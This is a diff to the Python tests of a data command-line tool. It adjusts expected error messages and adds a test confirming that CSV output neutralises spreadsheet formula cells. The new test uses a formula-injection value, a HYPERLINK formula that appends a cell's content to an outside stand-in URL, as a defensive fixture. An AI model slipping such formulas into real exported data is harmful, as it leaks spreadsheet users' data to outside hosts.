@@ -14,7 +14,7 @@ from loaders.catalog import ROOT
 from verdicts.argument import Claim, Topic
 from verdicts.evidence import Evidence
 
-VERDICT_KEYS = set("claim topic kind statement as_of verdict score reason findings".split())
+VERDICT_KEYS = set("claim topic kind statement as_of verdict score reason tests_left_out findings".split())
 FINDING_KEYS = set(
     "evidence question outcome statistic unit low high n from to threshold sentence indicator source".split()
 )
@@ -97,8 +97,8 @@ def test_verdicts_as_of_a_day(run, text, day):
         (["series", "gdp_nominal", "--measure", "share"], "say with what"),
         (["series", "gdp_nominal", "--entity", "USA", "--measure", "rank", "--versus-entity", "CHN"], "needs a group"),
         (["series", "gdp_nominal", "--smoothing", "0"], "1 or more"),
-        (["series", "gdp_nominal", "--from", "20x0"], "Write 2014 or 2014-02-27"),
-        (["series", "gdp_nominal", "--to", "2014-13"], "neither a year nor a day"),
+        (["series", "gdp_nominal", "--from", "20x0"], "write 2014 or 2014-02-27"),
+        (["series", "gdp_nominal", "--to", "2014-13"], "is not a year or a day: write 2014 or 2014-02-27"),
         (["series", "gdp_nominal", "--as-of", "soon"], "article, latest or a day"),
         (["validate", "no/such/folder"], "is not a folder"),
     ],
@@ -123,6 +123,22 @@ def test_what_is_not_understood_is_status_2_with_the_usage(capsys, arguments):
     out, err = capsys.readouterr()
     assert (stop.value.code, out) == (2, "")
     assert err.startswith("usage: plumbline")
+
+
+def test_a_cell_that_a_spreadsheet_would_work_out_is_inert_in_what_the_terminal_prints(run, tmp_path):
+    header, row = (ROOT / "claims.csv").read_text(encoding="utf-8").splitlines()[:2]
+    cells = next(csv.reader([row]))
+    hostile = {"statement": '=HYPERLINK("https://example.org/"&A1;"x")', "other": "+1 is what it says"}
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(header.split(","))
+    for name, words in hostile.items():
+        writer.writerow([name, *cells[1:5], words, *cells[6:]])
+    (tmp_path / "claims.csv").write_text(out.getvalue(), encoding="utf-8")
+    (tmp_path / "topics.csv").write_bytes((ROOT / "topics.csv").read_bytes())
+    (tmp_path / "evidence.csv").write_text((ROOT / "evidence.csv").read_text(encoding="utf-8").splitlines()[0] + "\n")
+    _, out, _ = run("verdicts", "--tables", str(tmp_path), "--format", "csv", "--executor", "none")
+    assert [row["statement"] for row in table(out)] == [f"'{words}" for words in hostile.values()]
 
 
 def test_a_series_as_csv_and_as_json(run):
